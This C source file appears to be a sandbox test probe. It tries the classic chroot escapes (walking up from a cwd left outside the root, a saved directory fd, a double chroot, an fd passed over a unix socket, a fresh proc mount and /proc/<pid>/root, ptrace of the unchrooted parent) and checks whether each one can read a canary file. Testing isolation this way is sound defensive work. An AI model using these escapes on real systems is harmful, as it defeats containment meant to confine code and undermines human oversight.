/* S16: the classic chroot escapes (root+cwd, saved directory fd, fork + fd passing over a unix socket, double chroot, /proc/<pid>/root, mount of a fresh proc, ptrace of an unchrooted process), each followed by a read of the canary. */
#include "../syscall_prelude.h"
}
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/mount.h>
#include <sys/ptrace.h>

static char jail[512], rel_canary[1024];

static void up_and_read(const char *how)
{
    /* walk far above whatever root we have, then read the canary absolutely and relatively */
    for (int i = 0; i < 64; i++) if (chdir("..") != 0) break;
    long r = rs(SYS_chroot, (long)".", 0, 0, 0, 0, 0);
    printf("[%s] chroot(\".\") after walking up: %s\n", how, en(r));
    int got = try_read_path(CANARY) | try_read_path(rel_canary);
    report(got || r == 0, "chroot-escape-%s%s", how, got ? " read the canary" : r == 0 ? " chroot succeeded" : "");
}

static int v_cwd(void *a)
{
    (void)a;
    long r = rs(SYS_chroot, (long)jail, 0, 0, 0, 0, 0);   /* cwd stays outside the new root */
    printf("chroot(jail) = %s\n", en(r));
    up_and_read("cwd-outside-root");
    return 0;
}

static int v_savedfd(void *a)
{
    (void)a;
    int fd = open("/", O_RDONLY | O_DIRECTORY);
    rs(SYS_chroot, (long)jail, 0, 0, 0, 0, 0);
    if (chdir("/") != 0) printf("chdir /: %s\n", strerror(errno));
    if (fd >= 0 && fchdir(fd) == 0) printf("fchdir(saved fd) ok\n");
    up_and_read("saved-dirfd");
    int c = openat(fd, rel_canary, O_RDONLY);
    if (c >= 0) dump_fd("openat(saved fd, relative canary)", c);
    return 0;
}

static int v_double(void *a)
{
    (void)a;
    char inner[600];
    snprintf(inner, sizeof inner, "%s/inner", jail);
    mkdir(inner, 0755);
    rs(SYS_chroot, (long)jail, 0, 0, 0, 0, 0);
    if (chdir("/") != 0) return 0;
    rs(SYS_chroot, (long)"inner", 0, 0, 0, 0, 0);   /* now cwd (/) is above the root */
    up_and_read("double-chroot");
    return 0;
}

static int v_fdpass(void *a)
{
    (void)a;
    int sv[2];
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, sv)) return 0;
    pid_t c = fork();
    if (c == 0) {
        close(sv[0]);
        rs(SYS_chroot, (long)jail, 0, 0, 0, 0, 0);
        if (chdir("/")) _exit(0);
        char b;
        struct iovec io = {&b, 1};
        char cbuf[CMSG_SPACE(sizeof(int))];
        struct msghdr m = {.msg_iov = &io, .msg_iovlen = 1, .msg_control = cbuf, .msg_controllen = sizeof cbuf};
        if (recvmsg(sv[1], &m, 0) > 0 && CMSG_FIRSTHDR(&m)) {
            int fd;
            memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&m)), sizeof fd);
            if (fchdir(fd) == 0) printf("child: fchdir(passed fd) ok\n");
            up_and_read("unix-socket-fd-pass");
        }
        _exit(0);
    }
    close(sv[1]);
    int root = open("/", O_RDONLY | O_DIRECTORY);
    char b = 'x';
    struct iovec io = {&b, 1};
    char cbuf[CMSG_SPACE(sizeof(int))];
    struct msghdr m = {.msg_iov = &io, .msg_iovlen = 1, .msg_control = cbuf, .msg_controllen = sizeof cbuf};
    struct cmsghdr *cm = CMSG_FIRSTHDR(&m);
    cm->cmsg_level = SOL_SOCKET;
    cm->cmsg_type = SCM_RIGHTS;
    cm->cmsg_len = CMSG_LEN(sizeof(int));
    memcpy(CMSG_DATA(cm), &root, sizeof root);
    if (sendmsg(sv[0], &m, 0) < 0) printf("sendmsg: %s\n", strerror(errno));
    waitpid(c, NULL, 0);
    return 0;
}

static int v_proc(void *a)
{
    (void)a;
    pid_t outside = getppid();
    rs(SYS_chroot, (long)jail, 0, 0, 0, 0, 0);
    if (chdir("/")) {}
    mkdir("/proc", 0755);
    long r = rs(SYS_mount, (long)"proc", (long)"/proc", (long)"proc", 0, 0, 0);
    printf("mount proc inside the jail: %s\n", en(r));
    char p[1200];
    snprintf(p, sizeof p, "/proc/%d/root%s", outside, CANARY);
    int got = try_read_path(p);
    snprintf(p, sizeof p, "/proc/1/root%s", CANARY);
    got |= try_read_path(p);
    report(got, "chroot-escape-proc-pid-root");
    return 0;
}

static int v_ptrace(void *a)
{
    (void)a;
    pid_t outside = getppid();
    rs(SYS_chroot, (long)jail, 0, 0, 0, 0, 0);
    long r = rs(SYS_ptrace, PTRACE_SEIZE, outside, 0, 0, 0, 0);
    report(r == 0, "chroot-escape-ptrace-unchrooted-parent %s", en(r));
    if (r == 0) rs(SYS_ptrace, PTRACE_DETACH, outside, 0, 0, 0, 0);
    return 0;
}

int main(int argc, char **argv)
{
    args(argc, argv);
    snprintf(jail, sizeof jail, "%s/jail-%s", SCRATCH, NONCE);
    mkdir(jail, 0755);
    /* the canary relative to "/" (used after a successful walk-up) */
    snprintf(rel_canary, sizeof rel_canary, ".%s", CANARY);
    long r = rs(SYS_chroot, (long)jail, 0, 0, 0, 0, 0);
    report(r == 0, "chroot(%s) %s", jail, en(r));
    if (r == 0) {
        /* undo in this process is impossible: everything else runs in children */
    }
    int (*fns[])(void *) = {v_cwd, v_savedfd, v_double, v_fdpass, v_proc, v_ptrace};
    for (size_t i = 0; i < sizeof fns / sizeof *fns; i++) {
        int st = in_child(fns[i], NULL, 2);
        if (!WIFEXITED(st)) printf("variant %zu: %s\n", i, wstr(st));
    }
    /* without chroot at all: the canary through the usual root-escaping paths */
    char p[1200];
    const char *pre[] = {"/proc/self/root", "/proc/1/root", "/proc/thread-self/root", "/proc/self/cwd/../../../../../.."};
    for (size_t i = 0; i < sizeof pre / sizeof *pre; i++) {
        snprintf(p, sizeof p, "%s%s", pre[i], CANARY);
        try_read_path(p);
    }
    linger();
    return 0;
}
